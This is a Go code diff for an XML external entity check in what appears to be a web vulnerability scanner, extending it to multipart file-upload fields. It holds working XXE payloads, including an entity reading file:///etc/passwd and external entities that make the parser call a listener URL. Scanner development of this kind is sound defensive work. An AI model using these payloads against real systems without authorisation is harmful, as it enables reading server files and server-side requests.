@@ -36,7 +36,11 @@ const maxPoints = 5
 var passwd = lazyregexp.New(`root:[^:\n]{0,100}:0:0:`)
 
 func request(t *attack.Trial) error {
-	if t.Request.Body.Kind != message.XML {
+	switch t.Request.Body.Kind {
+	case message.XML:
+	case message.Multipart:
+		return files(t)
+	default:
 		return nil
 	}
 	tried := 0
@@ -47,11 +51,41 @@ func request(t *attack.Trial) error {
 		if tried++; tried > maxPoints {
 			break
 		}
-		if found, err := point(t, at); found || err != nil {
+		if found, err := point(t, place{at, func(entities, text string) *message.Request { return document(t, at, entities, text) }}); found || err != nil {
 			return err
 		}
 	}
 	return nil
+}
+
+// files tries the fields of a form that take a file, with documents of XML.
+func files(t *attack.Trial) error {
+	if !t.Target.Profile.Allows(scan.Standard) {
+		return nil // files stay where they are sent
+	}
+	for i, p := range t.Request.Body.Params {
+		if p.File == "" {
+			continue
+		}
+		file := message.Param{Name: p.Name, File: t.Random(12) + ".xml", Type: "text/xml"}
+		at := message.Point{In: message.InMultipart, Name: p.Name, Index: i, Value: p.Value, Type: "file"}
+		if found, err := point(t, place{at, func(entities, text string) *message.Request {
+			r := t.Request.Clone()
+			r.Body.Params[i] = file
+			r.Body.Params[i].Value = `<?xml version="1.0"?><!DOCTYPE d [` + entities + `]><d><a>` + text + `</a></d>`
+			return r
+		}}); found || err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// A place is where a document is put.
+type place struct {
+	at message.Point
+	// document returns the request with declarations of entities, and a text of entities.
+	document func(entities, text string) *message.Request
 }
 
 // document returns the request with declarations of entities, and a text of entities in
@@ -69,26 +103,26 @@ func document(t *attack.Trial, at message.Point, entities, text string) *message
 	return r
 }
 
-func point(t *attack.Trial, at message.Point) (found bool, err error) {
+func point(t *attack.Trial, p place) (found bool, err error) {
 	one, two := t.Random(8), t.Random(8)
-	r := document(t, at, `<!ENTITY a "`+one+`"><!ENTITY b "`+two+`">`, "&a;&b;")
+	r := p.document(`<!ENTITY a "`+one+`"><!ENTITY b "`+two+`">`, "&a;&b;")
 	resp, err := t.Send(r)
 	if err != nil {
 		return false, err
 	}
 	expanded := strings.Contains(resp.Text(), one+two)
-	flaw := attack.Flaw{Rule: internal, Point: &at, Request: r, Payload: "&a;&b;", Answers: []*message.Response{resp}, Notes: []string{"two entities of the document"}}
+	flaw := attack.Flaw{Rule: internal, Point: &p.at, Request: r, Payload: "&a;&b;", Answers: []*message.Response{resp}, Notes: []string{"two entities of the document"}}
 	if expanded {
 		flaw.Proof = []string{"Two entities stand beside each other in the document; the answer holds what they stand for, joined."}
 	}
-	if called, err := call(t, at); called || err != nil {
+	if called, err := call(t, p); called || err != nil {
 		return called, err
 	}
 	if !expanded {
 		return false, nil
 	}
 	if t.Target.Profile.Allows(scan.Standard) {
-		r := document(t, at, `<!ENTITY f SYSTEM "file:///etc/passwd">`, "&f;")
+		r := p.document(`<!ENTITY f SYSTEM "file:///etc/passwd">`, "&f;")
 		resp, err := t.Send(r)
 		if err != nil {
 			return false, err
@@ -105,13 +139,13 @@ func point(t *attack.Trial, at message.Point) (found bool, err error) {
 
 // call makes the parser ask our listener: with an entity of the text, and with one of the
 // type definition, which is read even where the text's are not expanded.
-func call(t *attack.Trial, at message.Point) (bool, error) {
+func call(t *attack.Trial, p place) (bool, error) {
 	return t.Lure(func(bait func() attack.Bait) (*message.Request, []attack.Hook) {
 		b := []attack.Bait{bait(), bait()}
 		general, parameter := `<!ENTITY c SYSTEM "`+b[0].URL+`">`, `<!ENTITY % d SYSTEM "`+b[1].URL+`">`
-		hook := attack.Hook{Rule: external, At: &at, Fetch: true, Proof: "An entity of the document is at an address of a listener; the parser read it."}
+		hook := attack.Hook{Rule: external, At: &p.at, Fetch: true, Proof: "An entity of the document is at an address of a listener; the parser read it."}
 		one, two := hook, hook
 		one.Bait, one.Payload, two.Bait, two.Payload = b[0], general, b[1], parameter
-		return document(t, at, general+parameter+"%d;", "&c;"), []attack.Hook{two, one}
+		return p.document(general+parameter+"%d;", "&c;"), []attack.Hook{two, one}
 	})
 }
